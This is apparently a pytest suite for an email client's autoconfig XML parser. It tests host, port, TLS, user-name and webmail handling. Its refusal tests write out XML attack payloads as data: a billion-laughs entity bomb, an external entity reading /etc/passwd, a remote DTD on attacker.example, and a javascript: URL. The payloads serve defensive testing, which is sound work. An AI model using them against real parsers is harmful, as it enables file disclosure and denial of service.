"""Autoconfig files, friendly and hostile."""

from __future__ import annotations

import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tray.mail.model.account import Security
from tray.mail.setup.autoconfig import AutoconfigError, Server, read

EMAIL = "anna@example.org"
TLS = "<hostname>imap.example.org</hostname><port>993</port><socketType>SSL</socketType>"


def xml(*servers, more="", kind="imap"):
    inner = "".join(f'<incomingServer type="{kind}">{server}</incomingServer>' for server in servers)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><clientConfig version="1.1"><emailProvider id="example.org">'
        f"<domain>example.org</domain>{inner}{more}</emailProvider></clientConfig>"
    ).encode()


def one(server):
    (found,) = read(xml(server), EMAIL).servers
    return found


def test_a_common_file():
    server = one(
        TLS + "<username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>"
    )
    assert server == Server("imap.example.org", 993, Security.TLS, EMAIL, oauth=False, password=True)


@pytest.mark.parametrize(
    ("said", "user"),
    [
        ("%EMAILLOCALPART%", "anna"), ("%EMAILLOCALPART%.%EMAILDOMAIN%", "anna.example.org"), ("u1234", "u1234"),
        ("%REALNAME%", ""), ("", ""), ("a&#10;b", ""), ("x" * 600, ""), ("x\n" * 600, ""), ("<b/>", ""),
    ],
)  # fmt: skip
def test_user_names(said, user):
    assert one(f"{TLS}<username>{said}</username>").user == user


@pytest.mark.parametrize("port", [1, 1143, 10993, 65535])
def test_any_port_that_can_be_is_taken(port):
    assert one(TLS.replace("993", str(port))).port == port


def test_a_placeholder_may_stand_in_the_host():
    assert one(TLS.replace("imap.example.org", "mail.%EMAILDOMAIN%")).host == "mail.example.org"


@pytest.mark.parametrize(
    ("ways", "oauth", "password"),
    [
        ([], False, True), (["OAuth2"], True, False), (["OAuth2", "password-cleartext"], True, True),
        (["GSSAPI"], False, False), (["secure"], False, True),
    ],
)  # fmt: skip
def test_ways_to_sign_in(ways, oauth, password):
    server = one(TLS + "".join(f"<authentication>{way}</authentication>" for way in ways))
    assert (server.oauth, server.password) == (oauth, password)


def test_tls_on_993_goes_first_then_any_tls_then_starttls():
    def server(host, port, security):
        return (
            f"<hostname>{host}.example.org</hostname><port>{port}</port><socketType>{security}</socketType>"
        )

    given = [
        ("a", 1143, "STARTTLS"),
        ("b", 143, "STARTTLS"),
        ("c", 1993, "SSL"),
        ("d", 993, "SSL"),
        ("e", 993, "SSL"),
    ]
    config = read(xml(*(server(*each) for each in given)), EMAIL)
    assert [each.host[0] for each in config.servers] == ["d", "e", "c", "b", "a"]
    assert not config.weak


@pytest.mark.parametrize(
    "server",
    [
        TLS.replace("993", "0"), TLS.replace("993", "70000"), TLS.replace("993", "9" * 400), TLS.replace("993", "x"),
        TLS.replace("993", "²"), TLS.replace("imap.example.org", "127.0.0.1"),
        TLS.replace("imap.example.org", "localhost"), TLS.replace("imap.example.org", "a b.example.org"),
        "<port>993</port>", "",
    ],
)  # fmt: skip
def test_a_server_that_cannot_be_is_passed_over(server):
    config = read(xml(server), EMAIL)
    assert config.servers == ()
    assert not config.weak


def test_pop_is_passed_over():
    assert read(xml(TLS, kind="pop3"), EMAIL).servers == ()


@pytest.mark.parametrize("security", ["plain", "", "none", "ssl"])
def test_a_server_without_encryption_is_noted_and_not_taken(security):
    config = read(xml(TLS.replace("SSL", security)), EMAIL)
    assert (config.servers, config.weak) == ((), True)


@pytest.mark.parametrize(
    ("url", "taken"),
    [
        ("https://mail.example.org/in?x=1", True), ("http://mail.example.org/", False), ("javascript:alert(1)", False),
        ("https://mail.example.org/%EMAILADDRESS%", False), ("https://mail.example.org:8443/", False),
        ("https://user@mail.example.org/", False), ("https://mail.example.org/" + "x" * 600, False), ("", False),
    ],
)  # fmt: skip
def test_webmail_is_https_or_left_out(url, taken):
    more = f'<webMail><loginPage url="{url}"/><loginPage url="https://second.example.org/"/></webMail>'
    expected = url if taken else "https://second.example.org/"
    assert read(xml(TLS, more=more), EMAIL).webmail == expected


def test_a_login_page_elsewhere_is_none():
    assert read(xml(TLS, more='<loginPage url="https://x.example.org/"/>'), EMAIL).webmail == ""


BILLION = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    + "]><clientConfig>&k;</clientConfig>"
)
EXTERNAL = '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><clientConfig><emailProvider>&x;</emailProvider></clientConfig>'
REMOTE = '<!DOCTYPE c SYSTEM "http://attacker.example/x.dtd"><clientConfig><emailProvider/></clientConfig>'


@pytest.mark.parametrize(
    "data",
    [
        BILLION.encode(), EXTERNAL.encode(), REMOTE.encode(), b'<!DOCTYPE c [<!ENTITY % p "x"> %p;]><c/>',
        xml(TLS) + b" " * 1_000_000, b"<a>" * 20_000, b"", b"\0" * 100, b"<html><body>404</body></html>",
        b"<!DOCTYPE html><html></html>", xml(TLS)[:-20], b'<?xml version="1.0" encoding="klingon"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>', b'<?xml version="1.0" encoding="shift_jis"?><a/>',
        xml(TLS).replace(b"imap.example", b"im\xffap.example"), b"<clientConfig/>", b"<a>&undefined;</a>",
    ],
    ids=lambda data: repr(data[:40]),
)  # fmt: skip
def test_a_file_that_cannot_be_used_is_refused_soon(data):
    """Nothing is expanded, nothing is fetched."""
    begun = time.process_time()
    with pytest.raises(AutoconfigError):
        read(data, EMAIL)
    assert time.process_time() - begun < 1


def test_the_largest_file_is_read_soon():
    data = xml(*[TLS] * 500)
    assert len(data) < 65_536
    begun = time.process_time()
    assert len(read(data, EMAIL).servers) == 500
    assert time.process_time() - begun < 1


@given(st.binary(max_size=300))
def test_nothing_else_is_ever_raised(noise):
    for data in (noise, xml(TLS).replace(b"993", noise), xml(noise.decode("latin-1"))):
        with suppress(AutoconfigError):
            read(data, EMAIL)


def test_a_configuration_file_may_spell_it_in_any_way():
    file = """<clientConfig><emailProvider><incomingServer type='imap'><hostname>IMAP.BÜCHER.example</hostname>
    <port>993</port><socketType>SSL</socketType></incomingServer></emailProvider></clientConfig>"""
    assert read(file.encode(), "a@bücher.example").servers[0].host == "imap.xn--bcher-kva.example"
